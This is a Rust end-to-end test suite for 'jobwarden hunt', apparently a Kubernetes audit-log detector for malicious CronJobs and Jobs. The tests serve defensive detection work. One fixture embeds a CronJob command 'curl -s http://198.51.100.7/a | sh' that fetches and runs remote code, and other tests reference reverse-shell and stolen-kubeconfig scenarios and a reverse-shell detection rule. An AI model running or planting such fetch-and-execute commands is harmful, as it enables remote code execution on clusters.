//! End-to-end tests of `jobwarden hunt`: the scenario corpus (attacks must be cited at the
//! expected severity, benign look-alikes must stay below medium), the real events of
//! `../shared/corpus`, bad input, and the output contract.

use jobwarden_testkit::{repo_root as repo, shared};
use serde_json::Value;
use std::io::Write;
use std::process::{Command, Output, Stdio};

fn exe() -> &'static str {
    env!("CARGO_BIN_EXE_jobwarden")
}

fn hunt(args: &[&str]) -> Output {
    Command::new(exe())
        .arg("hunt")
        .args(args)
        .output()
        .expect("run jobwarden")
}

fn alerts(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).expect("each stdout line is one JSON alert"))
        .collect()
}

fn sev(a: &Value) -> u8 {
    match a["severity"].as_str().unwrap_or("") {
        "critical" => 4,
        "high" => 3,
        "medium" => 2,
        "low" => 1,
        _ => 0,
    }
}

fn level(name: &str) -> u8 {
    match name {
        "critical" => 4,
        "high" => 3,
        "medium" => 2,
        "low" => 1,
        _ => 0,
    }
}

fn cited_at(alerts: &[Value], min: u8) -> Vec<String> {
    alerts
        .iter()
        .filter(|a| sev(a) >= min)
        .flat_map(|a| a["evidence"].as_array().cloned().unwrap_or_default())
        .filter_map(|e| e["audit_id"].as_str().map(str::to_string))
        .collect()
}

#[test]
fn scenario_corpus_meets_its_expectations() {
    let root = repo().join("tests/data/scenarios");
    let spec: Value = serde_json::from_str(
        &std::fs::read_to_string(root.join("expected.json")).expect("expected.json"),
    )
    .expect("expected.json parses");
    let scenarios = spec["scenarios"].as_object().expect("scenarios map");
    assert!(scenarios.len() >= 20, "the corpus shrank");
    let mut failures = Vec::new();
    for (name, sc) in scenarios {
        let path = root.join(name);
        let path = path.to_str().expect("utf-8 path");
        let out = hunt(&["--format", "jsonl", "--min-severity", "info", "-q", path]);
        let found = alerts(&out);
        match sc["kind"].as_str() {
            Some("attack") => {
                let min = level(sc["min_severity"].as_str().unwrap_or("medium"));
                let cited = cited_at(&found, min);
                for id in sc["must_cite"].as_array().into_iter().flatten() {
                    let id = id.as_str().unwrap_or_default();
                    if !cited.iter().any(|c| c == id) {
                        failures.push(format!("{name}: {id} not cited at >= {min}"));
                    }
                }
            }
            Some("benign") => {
                for a in found.iter().filter(|a| sev(a) >= 2) {
                    failures.push(format!(
                        "{name}: benign but {} {}",
                        a["severity"], a["summary"]
                    ));
                }
            }
            Some("needs-config") => {
                // Without config anything up to high is acceptable; with the documented config
                // the scenario must be quiet.
                let config = path.replace(".jsonl", ".config.yaml");
                let out = hunt(&["--format", "jsonl", "-q", "--config", &config, path]);
                for a in alerts(&out).iter().filter(|a| sev(a) >= 2) {
                    failures.push(format!(
                        "{name}: with config still {} {}",
                        a["severity"], a["summary"]
                    ));
                }
            }
            other => failures.push(format!("{name}: unknown kind {other:?}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn bundled_example_shows_real_alerts() {
    let demo = repo().join("examples/audit-demo.jsonl");
    let out = hunt(&["--format", "jsonl", "-q", demo.to_str().expect("path")]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let found = alerts(&out);
    assert!(
        found.iter().any(|a| sev(a) >= 3),
        "the demo must show high alerts"
    );
    for a in &found {
        assert_eq!(a["schema"], "jobwarden.alert/v1");
        assert!(
            a["rule"]["attack"]
                .as_array()
                .is_some_and(|t| !t.is_empty())
        );
        let ev = &a["evidence"][0];
        let source = ev["source"].as_str().expect("source");
        let (file, line) = source.rsplit_once(':').expect("file:line");
        assert!(file.ends_with("audit-demo.jsonl"));
        assert!(line.parse::<u64>().is_ok_and(|n| n >= 1));
        assert!(ev["audit_id"].is_string());
    }
    // Same input, same alert ids: ids are stable hashes.
    let again = alerts(&hunt(&[
        "--format",
        "jsonl",
        "-q",
        demo.to_str().expect("path"),
    ]));
    let ids = |v: &[Value]| v.iter().map(|a| a["id"].clone()).collect::<Vec<_>>();
    assert_eq!(ids(&found), ids(&again));
}

#[test]
fn one_thread_and_many_give_identical_output() {
    let dir = repo().join("tests/data/scenarios/attack");
    let d = dir.to_str().expect("path");
    let one = hunt(&[
        "--format",
        "jsonl",
        "--min-severity",
        "info",
        "-q",
        "-j",
        "1",
        d,
    ]);
    let many = hunt(&[
        "--format",
        "jsonl",
        "--min-severity",
        "info",
        "-q",
        "-j",
        "4",
        d,
    ]);
    assert!(!one.stdout.is_empty());
    assert_eq!(one.stdout, many.stdout);
}

#[test]
fn stage_records_of_one_request_give_one_alert() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let path = tmp.path().join("stages.jsonl");
    let body = r#"{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"x","namespace":"d"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"c","image":"alpine","command":["sh","-c","curl -s http://198.51.100.7/a | sh"]}]}}}}}}"#;
    let rr = format!(
        r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"aaaa-1","stage":"RequestReceived","requestURI":"/apis/batch/v1/namespaces/d/cronjobs","verb":"create","user":{{"username":"mallory"}},"objectRef":{{"resource":"cronjobs","namespace":"d","apiGroup":"batch","apiVersion":"v1"}},"requestObject":{body},"requestReceivedTimestamp":"2024-03-01T10:00:00.000000Z","stageTimestamp":"2024-03-01T10:00:00.000000Z"}}"#
    );
    let rc = format!(
        r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"aaaa-1","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/d/cronjobs","verb":"create","user":{{"username":"mallory"}},"objectRef":{{"resource":"cronjobs","namespace":"d","name":"x","apiGroup":"batch","apiVersion":"v1"}},"responseStatus":{{"metadata":{{}},"code":201}},"requestObject":{body},"requestReceivedTimestamp":"2024-03-01T10:00:00.000000Z","stageTimestamp":"2024-03-01T10:00:00.020000Z","annotations":{{"authorization.k8s.io/decision":"allow"}}}}"#
    );
    std::fs::write(&path, format!("{rr}\n{rc}\n{rc}\n")).expect("write");
    let out = hunt(&[
        "--format",
        "jsonl",
        "--min-severity",
        "info",
        "-q",
        path.to_str().expect("path"),
    ]);
    let found = alerts(&out);
    let mut per_rule: Vec<&str> = found
        .iter()
        .filter_map(|a| a["rule"]["id"].as_str())
        .collect();
    let total = per_rule.len();
    per_rule.dedup();
    assert_eq!(
        total,
        per_rule.len(),
        "a rule fired twice for one request: {found:?}"
    );
    assert!(
        found
            .iter()
            .any(|a| a["rule"]["id"] == "JW-AUD-0002" && sev(a) >= 3)
    );
    assert!(found.iter().all(|a| {
        a["evidence"][0]["source"]
            .as_str()
            .is_some_and(|s| s.ends_with(":1"))
    }));
}

#[test]
fn bad_input_is_reported_with_file_and_line_and_processing_goes_on() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let good = std::fs::read_to_string(
        repo().join("tests/data/scenarios/attack/reverse-shell-job-dev-tcp.jsonl"),
    )
    .expect("scenario");
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let mixed = format!("not json at all\n{{\"kind\": 0}}\n{deep}\n{{\"verb\": [1]}}\n{good}");
    let path = tmp.path().join("mixed.jsonl");
    std::fs::write(&path, &mixed).expect("write");
    // A gzip cut in the middle.
    let gz_path = tmp.path().join("cut.log");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(good.as_bytes()).expect("gzip");
    let gz = enc.finish().expect("gzip");
    std::fs::write(&gz_path, &gz[..gz.len() / 2]).expect("write");
    let p = path.to_str().expect("path");
    let out = hunt(&["--format", "jsonl", p, gz_path.to_str().expect("path")]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "skipped input gives exit code 2"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains(&format!("{p}:1")), "{stderr}");
    assert!(stderr.contains(&format!("{p}:2")), "{stderr}");
    assert!(stderr.contains("skipped"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(
        alerts(&out).iter().any(|a| sev(a) >= 2),
        "the good events after the bad lines are still judged"
    );
}

#[test]
fn garbage_never_crashes() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let mut seed = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let fragments: [&[u8]; 10] = [
        b"{\"verb\":\"create\",\"objectRef\":{\"resource\":\"jobs\"",
        b"\"requestObject\":{\"kind\":\"Job\",\"spec\":{\"template\":",
        b"}}}}",
        b"\\u006aobs",
        b"\x1f\x8b\x08",
        b"\n",
        b"[[[[",
        b"\xff\xfe\x00",
        b"{\"kind\":\"EventList\",\"items\":[",
        b"\"protoPayload\":{\"methodName\":\"io.k8s.batch.v1.jobs.create\"",
    ];
    for i in 0..40 {
        let mut bytes = Vec::new();
        for _ in 0..(next() % 60) {
            bytes.extend_from_slice(fragments[(next() % fragments.len() as u64) as usize]);
        }
        let path = tmp.path().join(format!("g{i}.log"));
        std::fs::write(&path, &bytes).expect("write");
        let out = hunt(&["--format", "jsonl", "-q", path.to_str().expect("path")]);
        let code = out.status.code();
        assert!(matches!(code, Some(0..=2)), "exit {code:?} on {bytes:?}");
        assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"));
    }
}

#[test]
fn reads_standard_input() {
    let log =
        std::fs::read(repo().join("tests/data/scenarios/attack/reverse-shell-job-dev-tcp.jsonl"))
            .expect("scenario");
    let mut child = Command::new(exe())
        .args(["hunt", "--format", "jsonl", "-q", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("spawn");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&log)
        .expect("write");
    let out = child.wait_with_output().expect("wait");
    let found = alerts(&out);
    assert!(found.iter().any(|a| sev(a) >= 3));
    assert!(
        found[0]["evidence"][0]["source"]
            .as_str()
            .is_some_and(|s| s.starts_with("-:") || s.starts_with("<stdin>:"))
    );
}

#[test]
fn fail_on_sets_exit_code() {
    let p = repo().join("tests/data/scenarios/attack/reverse-shell-job-dev-tcp.jsonl");
    let p = p.to_str().expect("path");
    assert_eq!(hunt(&["-q", "--fail-on", "high", p]).status.code(), Some(1));
    let benign = repo()
        .join("tests/data/scenarios/benign/cronjob-controller-ticks-and-job-controller-pods.jsonl");
    assert_eq!(
        hunt(&["-q", "--fail-on", "medium", benign.to_str().expect("path")])
            .status
            .code(),
        Some(0)
    );
}

#[test]
fn eks_forbidden_create_job_is_a_failed_attempt() {
    let Some(shared) = shared() else { return };
    let yml = std::fs::read_to_string(
        shared.join("corpus/splunk-security-content-datasources/kubernetes_audit.yml"),
    )
    .expect("splunk datasource");
    let ds: Value = serde_saphyr::from_str(&yml).expect("yaml");
    let example = ds["example_log"].as_str().expect("example_log");
    let tmp = tempfile::tempdir().expect("tempdir");
    let path = tmp.path().join("eks.jsonl");
    std::fs::write(&path, format!("{example}\n")).expect("write");
    let out = hunt(&["--format", "jsonl", "-q", path.to_str().expect("path")]);
    let found = alerts(&out);
    let attempt = found
        .iter()
        .find(|a| a["rule"]["id"] == "JW-AUD-0010")
        .unwrap_or_else(|| panic!("no failed-attempt alert: {found:?}"));
    assert_eq!(
        attempt["evidence"][0]["audit_id"],
        "582c31ab-4906-49bb-9ff9-872f980ccb84"
    );
    assert_eq!(attempt["evidence"][0]["detail"]["outcome"], "denied");
    assert!(sev(attempt) >= 1);
}

#[test]
fn cloud_wrappers_and_real_logs_decode_without_skips() {
    let Some(shared) = shared() else { return };
    let corpus = shared.join("corpus");
    for rel in [
        "elastic-integrations-k8s-audit/test-audit.log",
        "elastic-integrations-k8s-audit/test-kube-audit.log",
        "audit2rbac/orig-2017/demo.log",
        "audit2rbac/head/demo.log",
    ] {
        let path = corpus.join(rel);
        let out = hunt(&[
            "--format",
            "jsonl",
            "--min-severity",
            "info",
            path.to_str().expect("path"),
        ]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{rel}: {stderr}");
        assert!(stderr.contains("skipped   none"), "{rel}: {stderr}");
    }
}

#[test]
fn rules_are_listed_and_explained() {
    let out = Command::new(exe()).args(["rules"]).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    for id in ["JW-AUD-0001", "JW-AUD-0002", "JW-AUD-0015"] {
        assert!(text.contains(id), "{text}");
    }
    let out = Command::new(exe())
        .args(["rules", "explain", "risky-job-template"])
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("## Why it matters") && text.contains("JW-AUD-0002"));
    let out = Command::new(exe())
        .args(["rules", "explain", "JW-XXX-9999"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn sigma_rules_run_next_to_the_builtin_pack() {
    let Some(shared) = shared() else { return };
    let rules = shared.join("corpus/sigmahq-kubernetes-rules");
    let demo = repo().join("examples/audit-demo.jsonl");
    let out = hunt(&[
        "--format",
        "jsonl",
        "-q",
        "--sigma",
        rules.to_str().expect("path"),
        demo.to_str().expect("path"),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let found = alerts(&out);
    let sigma: Vec<&Value> = found
        .iter()
        .filter(|a| {
            a["rule"]["origin"]
                .as_str()
                .is_some_and(|o| o.starts_with("sigma:"))
        })
        .collect();
    let modification = sigma
        .iter()
        .find(|a| a["rule"]["id"] == "0c9b3bda-41a6-4442-9345-356ae86343dc")
        .expect("SigmaHQ's CronJob/Job modification rule fires");
    assert!(modification["evidence"][0]["audit_id"].is_string());
    assert!(found.iter().any(|a| a["rule"]["origin"] == "builtin"));
    // The same Sigma alerts whether or not the prefilter is on.
    let full = alerts(&hunt(&[
        "--format",
        "jsonl",
        "-q",
        "--no-prefilter",
        "--sigma",
        rules.to_str().expect("path"),
        demo.to_str().expect("path"),
    ]));
    let ids = |v: &[Value]| {
        let mut ids: Vec<String> = v
            .iter()
            .map(|a| a["id"].as_str().unwrap_or("").to_string())
            .collect();
        ids.sort();
        ids
    };
    assert_eq!(ids(&found), ids(&full));
}

#[test]
fn sigma_lint_reports_rules_that_cannot_fire_and_bad_files() {
    let Some(shared) = shared() else { return };
    let rules = shared.join("corpus/sigmahq-kubernetes-rules");
    let out = Command::new(exe())
        .args(["rules", "lint", rules.to_str().expect("path")])
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("16 rule(s) loaded, 0 error(s)"), "{text}");
    assert!(text.contains("hostPath"), "{text}");
    let tmp = tempfile::tempdir().expect("tempdir");
    let bad = tmp.path().join("bad.yml");
    std::fs::write(&bad, "title: x\nlogsource: {product: kubernetes, service: audit}\ndetection:\n  sel:\n    verb|nosuchmodifier: create\n  condition: sel\n").expect("write");
    let out = Command::new(exe())
        .args(["rules", "lint", bad.to_str().expect("path")])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("bad.yml:"));
}

#[test]
fn host_command_audit_request_and_container_become_one_incident() {
    let dir = repo().join("tests/data/incidents");
    let out = hunt(&["--format", "jsonl", "-q", dir.to_str().expect("path")]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let found = alerts(&out);
    let incidents: Vec<&Value> = found
        .iter()
        .filter(|a| a["rule"]["id"] == "JW-COR-0001")
        .collect();
    assert_eq!(incidents.len(), 1, "{found:?}");
    let incident = incidents[0];
    assert_eq!(incident["rule"]["origin"], "correlation");
    assert!(sev(incident) >= 3);
    assert_eq!(incident["actor"]["host"], "jump-02");
    let chain: Vec<&str> = incident["provenance"]
        .as_array()
        .expect("chain")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(chain.len(), 6, "{chain:?}");
    assert!(chain[0].starts_with("process: kubectl create on jump-02"));
    assert!(chain[1].contains("58fd423b-5da8-470b-9280-a5aecd024d3c"));
    // The controllers' Job and Pod, from the audit log's ownerReferences.
    assert!(chain[2].starts_with("job: payments/logrotate-payments-29016891 created by system:serviceaccount:kube-system:cronjob-controller"));
    assert!(chain[3].starts_with("pod: payments/logrotate-payments-29016891-hmn4h created by system:serviceaccount:kube-system:job-controller"));
    assert!(chain[4].starts_with("container: alpine:3.19 on node ip-10-2-31-77"));
    assert!(chain[5].starts_with("file: /host/etc/cron.d/logrotate written by /bin/sh"));
    let kinds: Vec<&str> = incident["evidence"]
        .as_array()
        .expect("evidence")
        .iter()
        .filter_map(|e| e["kind"].as_str())
        .collect();
    assert_eq!(
        kinds,
        [
            "process",
            "k8s_audit",
            "k8s_audit",
            "k8s_audit",
            "container",
            "file"
        ]
    );
    // The benign `kubectl get pods` an hour earlier is not part of it.
    assert!(!chain.iter().any(|c| c.contains("sysmon.log:1")));
}

#[test]
fn sigmahq_regression_events_match_their_rules_as_generic_json() {
    let Some(shared) = shared() else { return };
    let root = shared.join("corpus/sigmahq-regression");
    let mut dirs: Vec<_> = std::fs::read_dir(&root)
        .expect("regression corpus")
        .filter_map(|e| e.ok())
        .filter(|e| e.path().is_dir())
        .collect();
    dirs.sort_by_key(|e| e.file_name());
    let mut misses = Vec::new();
    for dir in &dirs {
        let id = dir.file_name().to_string_lossy().to_string();
        let rule = dir.path().join("rule.yml");
        let event = dir.path().join(format!("{id}.json"));
        let out = hunt(&[
            "--format",
            "jsonl",
            "-q",
            "--sigma",
            rule.to_str().expect("path"),
            event.to_str().expect("path"),
        ]);
        let hit = alerts(&out)
            .iter()
            .any(|a| a["rule"]["id"] == id.as_str() && a["evidence"][0]["kind"] == "generic");
        if !hit {
            misses.push(format!(
                "{id}: {}",
                String::from_utf8_lossy(&out.stderr)
                    .lines()
                    .next()
                    .unwrap_or("")
            ));
        }
    }
    assert_eq!(dirs.len(), 202);
    // The issue asks for 95%; every miss would be explained in the note.
    assert!(
        misses.is_empty(),
        "{} of {} missed:\n{}",
        misses.len(),
        dirs.len(),
        misses.join("\n")
    );
}

#[test]
fn host_address_map_decides_which_requests_a_host_made() {
    let dir = repo().join("tests/data/incidents");
    let tmp = tempfile::tempdir().expect("tempdir");
    let incidents_with = |addresses: &str| {
        let cfg = tmp.path().join("c.yaml");
        std::fs::write(
            &cfg,
            format!("host:\n  addresses:\n    jump-02: [{addresses}]\n"),
        )
        .expect("write");
        let out = hunt(&[
            "--format",
            "jsonl",
            "-q",
            "-c",
            cfg.to_str().expect("path"),
            dir.to_str().expect("path"),
        ]);
        alerts(&out)
            .iter()
            .filter(|a| a["rule"]["id"] == "JW-COR-0001")
            .count()
    };
    assert_eq!(
        incidents_with("193.142.146.35"),
        1,
        "the audit request came from jump-02's address"
    );
    assert_eq!(
        incidents_with("10.9.9.9"),
        0,
        "jump-02 never talks from the request's address"
    );
}

#[test]
fn sigma_rules_can_use_jobwardens_judgement_as_derived_fields() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let rule = tmp.path().join("derived.yml");
    std::fs::write(
        &rule,
        "title: Frequent CronJob running a reverse shell or as privileged, written by a person\n\
         id: 6f1c2d9e-0b1a-4c55-9d3e-7a1b2c3d4e5f\n\
         level: high\n\
         tags: [attack.t1053.007]\n\
         logsource: {product: kubernetes, service: audit}\n\
         detection:\n\
         \x20 sel:\n\
         \x20   verb: create\n\
         \x20   jobwarden.creatorClass: human\n\
         \x20 risky:\n\
         \x20   - jobwarden.privileged: true\n\
         \x20   - jobwarden.findings|contains: command\n\
         \x20 condition: sel and risky\n",
    )
    .expect("write");
    let attack =
        repo().join("tests/data/scenarios/attack/stolen-admin-kubeconfig-cronjob-curl-sh.jsonl");
    let benign = repo().join("tests/data/scenarios/benign/sre-kubectl-apply-clean-cronjob.jsonl");
    let run = |log: &std::path::Path| {
        alerts(&hunt(&[
            "--format",
            "jsonl",
            "-q",
            "--sigma",
            rule.to_str().expect("path"),
            log.to_str().expect("path"),
        ]))
        .into_iter()
        .filter(|a| a["rule"]["id"] == "6f1c2d9e-0b1a-4c55-9d3e-7a1b2c3d4e5f")
        .count()
    };
    assert_eq!(
        run(&attack),
        1,
        "curl | sh in a CronJob created by a stolen admin kubeconfig"
    );
    assert_eq!(run(&benign), 0, "an SRE's clean CronJob");
}
